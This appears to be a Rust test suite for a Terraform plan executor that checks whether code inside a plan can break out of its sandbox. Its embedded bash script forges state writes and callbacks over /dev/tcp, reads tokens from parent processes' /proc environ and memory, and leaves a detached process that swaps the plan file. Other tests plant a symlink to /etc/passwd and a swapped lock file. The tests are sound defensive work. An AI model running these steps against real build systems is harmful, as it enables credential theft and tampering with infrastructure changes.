//! Code that runs in a plan tries what it must not be able to do. All of it fails, and is seen.

use super::fake_callback::FakeCallback;
use super::fake_tool;
use super::world::{World, eventually, is_named_by_a_process, open_directory};

const HOSTILE: &str = r#"
  http() { # method, host:port, path, header, body
    exec 3<>"/dev/tcp/${2%:*}/${2#*:}" || return
    printf '%s %s HTTP/1.1\r\nHost: x\r\nConnection: close\r\nContent-Type: application/json\r\n%sContent-Length: %s\r\n\r\n%s' "$1" "$3" "$4" "${#5}" "$5" >&3
    read -r _ status _ <&3
    exec 3<&-
    echo "$1 $3 -> $status"
  }
  proxy="${TF_HTTP_ADDRESS#http://}"; proxy="${proxy%%/*}"
  basic="Authorization: Basic $(printf '%s:%s' "$TF_HTTP_USERNAME" "$TF_HTTP_PASSWORD" | base64 -w0)"$'\r\n'
  # Write the state, with the password and without; take the lock by force.
  http PUT "$proxy" /state "$basic" '{"version":4,"serial":99,"lineage":"evil"}'
  http GET "$proxy" /state "" ""
  # Read the run's token: environment, memory and files of whoever stands above us.
  parent=$PPID
  supervisor=$(awk '/^PPid:/ {print $2}' "/proc/$parent/status")
  for pid in $supervisor $parent; do
    tr '\0' '\n' < "/proc/$pid/environ" 2>/dev/null | grep -E 'run-token|ticket-ticket' && echo "STOLEN from environ of $pid"
  done
  dd if="/proc/$supervisor/mem" of=/dev/null bs=1 count=1 2>/dev/null && [ -r "/proc/$supervisor/maps" ] && head -c1 "/proc/$supervisor/maps" | grep -q . && echo "STOLEN maps"
  ls "/proc/$supervisor/fd" 2>/dev/null | grep -q . && echo "STOLEN fds"
  env | grep -E 'run-token|ticket|PLUMBLINE' && echo "STOLEN own environment"
  # Report as somebody else.
  callback=$(cat SIGNS/callback)
  http POST "$callback" /executor/v1/heartbeat "" ""
  http POST "$callback" /executor/v1/plan/complete "Authorization: Bearer guess"$'\r\n' "{}"
  # Outlive the step, out of the session and the process tree, and swap the plan.
  echo "the real plan" > "$out"
  (setsid bash -c "(: > 'SIGNS/free'; while :; do echo swapped > '$out.new' && mv -f '$out.new' '$out' ; sleep 0.2; : SIGNS ; done) & disown" > /dev/null 2>&1 &)
  # Gone too early, it would end with the group of the step and never have been free.
  until [ -e SIGNS/free ]; do sleep 0.02; done
  exit 2
"#;

#[tokio::test]
async fn a_hostile_plan_gets_nothing_and_is_seen() {
    let signs = open_directory();
    let mut world = World::with(&[("main.tf", "")]);
    let tools = open_directory();
    let mark = signs.path().display().to_string();
    fake_tool::write(tools.path(), "1.99.0", &HOSTILE.replace("SIGNS", &mark));
    world.environment.push(("PLUMBLINE_TOOL_DIRS".into(), tools.path().display().to_string()));
    world.bundle.tool.version = Some("1.99.0".into());
    let fake = FakeCallback::start(world.bundle.clone()).await;
    std::fs::write(signs.path().join("callback"), fake.url.trim_start_matches("http://")).unwrap();
    let planned = world.start_against(fake).finish().await;

    let log = planned.fake.log_of("Terraform Plan");
    assert!(log.contains("PUT /state -> 403") && log.contains("GET /state -> 401"), "{log}");
    assert!(log.contains("/executor/v1/heartbeat -> 401") && log.contains("/plan/complete -> 401"), "{log}");
    assert!(!log.contains("STOLEN"), "{log}");
    {
        let told = planned.fake.told();
        assert!(told.states.is_empty());
        assert_eq!(told.strangers, 2);
        let summary =
            told.steps.iter().rev().find_map(|(_, report)| report.summary.clone()).expect("findings");
        let findings = summary["findings"].to_string();
        for seen in ["tried to write the state", "without its password", "outlived the plan"] {
            assert!(findings.contains(seen), "{findings}");
        }
        // Whichever file was there when everything had ended: what was hashed is what was shown and kept.
        let done = told.plan_done.as_ref().expect("the plan is complete");
        assert_eq!(done.plan_sha256, plumbline_core::digest::Sha256Digest::of(&told.artifacts["plan_file"]));
    }
    eventually("nothing is left", || !is_named_by_a_process(&mark)).await;
}

#[tokio::test]
async fn a_repository_cannot_name_a_backend_of_its_own() {
    let local = "terraform {\n  backend \"local\" {\n    path = \"elsewhere\"\n  }\n}\n";
    let other = "terraform {\n  backend \"http\" {\n    skip_cert_verification = true\n  }\n}\n";
    let json = r#"{ "terraform": { "backend": { "local": { "path": "elsewhere" } } } }"#;
    for (file, text) in [
        ("zzz_override.tf", local),
        ("zzz_override.tf", other),
        ("zz_plumbline_override.tf.json", json),
        ("zzz_override.tf.json", json),
    ] {
        let planned = World::with(&[("main.tf", ""), (file, text)]).run().await;
        let told = planned.fake.told();
        let error = told.failed.clone().expect("a report").error;
        assert!(error.contains("a backend of its own"), "{file}: {error}");
        assert!(told.plan_done.is_none() && !told.artifacts.contains_key("plan_file"));
    }
    // One whose place ours takes is no harm.
    let planned = World::with(&[("main.tf", local)]).run().await;
    assert!(planned.fake.told().plan_done.is_some(), "{}", planned.fake.all_logs());
}

#[tokio::test]
async fn an_apply_that_goes_past_our_state_is_no_success_and_its_state_is_not_whole() {
    let world = World::with(&[("main.tf", "resource \"terraform_data\" \"one\" {}\n")]);
    let planned = world.run().await;
    // As code in a plan would make it: the same change with another backend in it.
    let other = world.scratch("other");
    std::fs::create_dir(&other).unwrap();
    let main = "terraform {\n  backend \"local\" {}\n}\nresource \"terraform_data\" \"one\" {}\n";
    std::fs::write(other.join("main.tf"), main).unwrap();
    for arguments in [&["init"][..], &["plan", "-out=tfplan"]] {
        let ended =
            std::process::Command::new("terraform").args(arguments).current_dir(&other).output().unwrap();
        assert!(ended.status.success(), "{}", String::from_utf8_lossy(&ended.stderr));
    }
    let swapped = std::fs::read(other.join("tfplan")).unwrap();
    let fake = world.approve(&planned);
    let sha256 = plumbline_core::digest::Sha256Digest::of(&swapped);
    fake.told().objects.insert("plan_file".into(), swapped.into());
    fake.told().plan_done.as_mut().unwrap().plan_sha256 = sha256;
    fake.bundle.lock().unwrap().plan.as_mut().unwrap().sha256 = sha256;
    let applied = world.start_against(fake).finish().await;
    let failed = applied.fake.told().failed.clone();
    let failed = failed.unwrap_or_else(|| panic!("{}", applied.fake.all_logs()));
    let told = applied.fake.told();
    assert!(failed.error.contains("names another backend") && !failed.is_state_whole, "{failed:?}");
    assert!(!told.apply_done && told.states.is_empty());
}

#[tokio::test]
async fn what_a_plan_leaves_in_its_directories_does_not_decide_how_it_is_shown() {
    let mut world = World::with(&[("main.tf", "")]);
    let tools = open_directory();
    let says = r#"
if [ "$1" = show ]; then
  [ -f "$TF_CLI_CONFIG_FILE" ] || { echo "the CLI configuration is anybody's" >&2; exit 7; }
  [ -z "$(ls -A "$HOME" "$TMPDIR" | grep -v :)" ] || { echo "somebody was here" >&2; exit 8; }
fi
"#;
    let plan = "echo 'provider_installation {}' > \"$HOME/.terraformrc\"; touch \"$TMPDIR/x\"; echo plan > \"$out\"; exit 2";
    fake_tool::install(
        tools.path(),
        "1.99.0",
        "terraform",
        &fake_tool::script_that_says(says, "1.99.0", plan),
    );
    world.environment.push(("PLUMBLINE_TOOL_DIRS".into(), tools.path().display().to_string()));
    world.bundle.tool.version = Some("1.99.0".into());
    let planned = world.run().await;
    assert!(planned.fake.told().plan_done.is_some(), "{}", planned.fake.all_logs());
}

#[tokio::test]
async fn a_plan_file_that_is_a_symlink_is_not_followed() {
    let mut world = World::with(&[("main.tf", "")]);
    let tools = open_directory();
    fake_tool::write(tools.path(), "1.99.0", "rm -f \"$out\"; ln -s /etc/passwd \"$out\"; exit 2");
    world.environment.push(("PLUMBLINE_TOOL_DIRS".into(), tools.path().display().to_string()));
    world.bundle.tool.version = Some("1.99.0".into());
    let planned = world.run().await;
    let told = planned.fake.told();
    assert!(told.failed.as_ref().expect("a report").error.contains("plan file cannot be read"));
    assert!(!told.artifacts.contains_key("plan_file"));
}

#[tokio::test]
async fn providers_cannot_be_exchanged_through_the_lock_file_while_planning() {
    let mut world = World::with(&[("main.tf", ""), (".terraform.lock.hcl", "# approved\n")]);
    let tools = open_directory();
    let plan = "echo plan > \"$out\"; echo '# other' > .x; rm -f .terraform.lock.hcl; mv .x .terraform.lock.hcl; exit 2";
    fake_tool::write(tools.path(), "1.99.0", plan);
    world.environment.push(("PLUMBLINE_TOOL_DIRS".into(), tools.path().display().to_string()));
    world.bundle.tool.version = Some("1.99.0".into());
    let planned = world.run().await;
    let error = planned.fake.told().failed.clone().expect("a report").error;
    assert!(error.contains(".terraform.lock.hcl changed"), "{error}");
}
